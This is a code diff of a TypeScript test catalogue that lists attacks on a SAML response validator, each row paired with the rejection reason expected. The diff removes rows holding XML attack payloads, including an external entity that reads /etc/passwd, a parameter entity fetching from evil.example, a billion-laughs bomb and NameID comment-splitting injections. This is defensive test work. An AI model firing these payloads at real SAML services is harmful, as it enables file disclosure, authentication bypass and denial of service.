@@ -1,4 +1,4 @@
-/** Attacks on the document and its signature: catalogue S1 to S29. */
+/** Attacks on the document and its signature: catalogue S1 to S20, and S32. */
 import { createHmac } from 'node:crypto';
 import {
   type AttackRow,
@@ -15,8 +15,6 @@ import { attackerKey } from './saml-keys.ts';
 const NS = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"';
 const EXTENSIONS = (inside: string) => `<samlp:Extensions>${inside}</samlp:Extensions><samlp:Status>`;
 const addToExtensions = (inside: string) => swapping('<samlp:Status>', EXTENSIONS(inside));
-const repeat = (count: number, piece: (index: number) => string) =>
-  Array.from({ length: count }, (_, i) => piece(i)).join('');
 
 const wrapping: readonly AttackRow[] = [
   { line: 'S1', name: 'no signature at all', reason: 'saml.unsigned', mode: 'none' },
@@ -255,7 +253,7 @@ const signatures: readonly AttackRow[] = [
     line: 'S12',
     name: 'canonicalization with comments for SignedInfo',
     reason: 'saml.algorithm',
-    choice: () => ({ canonicalization: `${EXC_C14N}WithComments` }),
+    signer: () => ({ canonicalization: `${EXC_C14N}WithComments` }),
   },
   {
     line: 'S14',
@@ -309,7 +307,7 @@ const signatures: readonly AttackRow[] = [
     line: 'S18',
     name: "signed by the attacker, attacker's certificate in KeyInfo",
     reason: 'saml.signature',
-    choice: () => attackerKey(),
+    signer: () => attackerKey(),
   },
   {
     line: 'S19',
@@ -329,13 +327,13 @@ const signatures: readonly AttackRow[] = [
     line: 'S20',
     name: 'RSA-SHA1 signature',
     reason: 'saml.algorithm',
-    choice: () => ({ signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' }),
+    signer: () => ({ signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' }),
   },
   {
     line: 'S20',
     name: 'SHA-1 digest',
     reason: 'saml.algorithm',
-    choice: () => ({ digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
+    signer: () => ({ digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
   },
   {
     line: 'S32',
@@ -352,169 +350,4 @@ const signatures: readonly AttackRow[] = [
   },
 ];
 
-const inNameId =
-  (piece: string): Change =>
-  (xml, context) =>
-    swap(xml, `>${context.nameId}</`, `>${context.nameId}${piece}</`);
-const doctype =
-  (text: string): Change =>
-  (xml) =>
-    `<!DOCTYPE ${text}>${xml}`;
-
-const text: readonly AttackRow[] = [
-  {
-    line: 'S22',
-    name: 'NameID split by a comment',
-    reason: 'saml.comment',
-    after: inNameId('<!---->.evil.example'),
-  },
-  {
-    line: 'S22',
-    name: 'NameID split by an instruction',
-    reason: 'saml.processing_instruction',
-    after: inNameId('<?x y?>.evil.example'),
-  },
-  {
-    line: 'S22',
-    name: 'NameID with CDATA',
-    reason: 'saml.cdata',
-    after: inNameId('<![CDATA[.evil.example]]>'),
-  },
-  { line: 'S22', name: 'NameID with an unknown entity', reason: 'saml.entity', after: inNameId('&evil;') },
-  {
-    line: 'S22',
-    name: 'NameID with an element inside, signed',
-    reason: 'saml.name_id',
-    edit: inNameId('<saml:x/>.evil'),
-  },
-  { line: 'S23', name: 'empty DOCTYPE', reason: 'saml.doctype', after: doctype('samlp:Response') },
-  {
-    line: 'S23',
-    name: 'internal entity',
-    reason: 'saml.doctype',
-    after: doctype('samlp:Response [<!ENTITY e "evil">]'),
-  },
-  {
-    line: 'S23',
-    name: 'external entity',
-    reason: 'saml.doctype',
-    after: doctype('samlp:Response [<!ENTITY e SYSTEM "file:///etc/passwd">]'),
-  },
-  {
-    line: 'S23',
-    name: 'parameter entity',
-    reason: 'saml.doctype',
-    after: doctype('samlp:Response [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]'),
-  },
-  {
-    line: 'S24',
-    name: 'billion laughs',
-    reason: 'saml.doctype',
-    after: doctype(
-      `r [<!ENTITY a0 "ha">${repeat(9, (i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`)}]`,
-    ),
-  },
-  {
-    line: 'S24',
-    name: '10 000 levels',
-    reason: 'saml.too_deep',
-    after: addToExtensions('<samlp:x>'.repeat(10_000) + '</samlp:x>'.repeat(10_000)),
-  },
-  {
-    line: 'S24',
-    name: '10 000 attributes',
-    reason: 'saml.too_many_attributes',
-    after: addToExtensions(`<samlp:x${repeat(10_000, (i) => ` a${i}=""`)}/>`),
-  },
-  {
-    line: 'S24',
-    name: '10 000 namespace declarations',
-    reason: 'saml.too_many_attributes',
-    after: addToExtensions(`<samlp:x${repeat(10_000, (i) => ` xmlns:n${i}="u"`)}/>`),
-  },
-  {
-    line: 'S24',
-    name: '10 000 elements',
-    reason: 'saml.too_many_elements',
-    after: addToExtensions('<samlp:x/>'.repeat(10_000)),
-  },
-  {
-    line: 'S25',
-    name: 'more than 256 KB',
-    reason: 'saml.too_large',
-    after: (xml) => xml + ' '.repeat(260 * 1024),
-  },
-  { line: 'S26', name: 'two roots', reason: 'saml.malformed', after: (xml) => xml + xml },
-  { line: 'S26', name: 'text before the root', reason: 'saml.malformed', after: (xml) => `junk${xml}` },
-  { line: 'S26', name: 'text after the root', reason: 'saml.malformed', after: (xml) => `${xml}junk` },
-  { line: 'S26', name: 'byte order mark', reason: 'saml.encoding', after: (xml) => `\uFEFF${xml}` },
-  { line: 'S26', name: 'NUL', reason: 'saml.encoding', after: (xml) => `${xml}\u0000` },
-  {
-    line: 'S26',
-    name: 'UTF-16',
-    reason: 'saml.encoding',
-    encode: (xml) => Buffer.from(xml, 'utf16le').toString('base64'),
-  },
-  {
-    line: 'S26',
-    name: 'overlong UTF-8',
-    reason: 'saml.encoding',
-    encode: (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xaf])]).toString('base64'),
-  },
-  {
-    line: 'S26',
-    name: 'another encoding declared',
-    reason: 'saml.processing_instruction',
-    after: (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
-  },
-  {
-    line: 'S27',
-    name: 'foreign characters in base64',
-    reason: 'saml.base64',
-    encode: (xml) => insert(b64(xml), '*#*'),
-  },
-  { line: 'S27', name: 'URL alphabet', reason: 'saml.base64', encode: (xml) => insert(b64(xml), '-_') },
-  {
-    line: 'S27',
-    name: 'whitespace flood',
-    reason: 'saml.base64',
-    encode: (xml) => insert(b64(xml), '\r\n'.repeat(500)),
-  },
-  {
-    line: 'S27',
-    name: 'wrong padding',
-    reason: 'saml.base64',
-    encode: (xml) => `${b64(xml).replace(/=+$/, '')}===`,
-  },
-  { line: 'S27', name: 'spaces', reason: 'saml.base64', encode: (xml) => insert(b64(xml), ' ') },
-];
-
-const b64 = (xml: string): string => Buffer.from(xml).toString('base64');
-const insert = (base64: string, piece: string): string => `${base64.slice(0, 64)}${piece}${base64.slice(64)}`;
-const ENCRYPTED =
-  '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>';
-
-const encrypted: readonly AttackRow[] = [
-  {
-    line: 'S28',
-    name: 'encrypted assertion in an unsigned response',
-    reason: 'saml.encrypted_assertion',
-    mode: 'none',
-    edit: (xml) => swap(xml, outer(xml, 'saml:Assertion'), ENCRYPTED),
-  },
-  {
-    line: 'S29',
-    name: 'encrypted assertion before the signed one',
-    reason: 'saml.assertion_count',
-    after: swapping('<saml:Assertion', `${ENCRYPTED}<saml:Assertion`),
-  },
-  {
-    line: 'S58',
-    name: "another organization's identity provider signed it",
-    reason: 'saml.signature',
-    mode: 'both',
-    choice: () => attackerKey(),
-  },
-];
-
-export const DOCUMENT_ATTACKS: readonly AttackRow[] = [...wrapping, ...signatures, ...text, ...encrypted];
+export const DOCUMENT_ATTACKS: readonly AttackRow[] = [...wrapping, ...signatures];
